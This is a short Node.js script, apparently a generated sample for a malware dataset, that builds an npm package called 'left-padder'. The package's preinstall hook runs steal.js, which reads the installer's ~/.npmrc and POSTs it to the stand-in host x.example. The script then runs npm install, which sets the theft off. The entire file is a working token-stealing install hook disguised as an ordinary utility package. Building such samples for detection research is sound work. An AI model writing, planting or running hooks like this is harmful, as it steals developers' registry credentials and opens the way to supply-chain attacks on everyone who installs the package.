// class: embedded, package with a hostile install step; style: generator
const fs = require('fs');
const { execSync } = require('child_process');
fs.mkdirSync('pkg', { recursive: true });
fs.writeFileSync('pkg/package.json', JSON.stringify({
  name: 'left-padder', version: '1.0.1', scripts: { preinstall: 'node steal.js' },
}));
fs.writeFileSync('pkg/steal.js', "const f=require('fs');fetch('https://x.example',{method:'POST',body:f.readFileSync(process.env.HOME+'/.npmrc')})");
execSync('npm install', { cwd: 'pkg' });
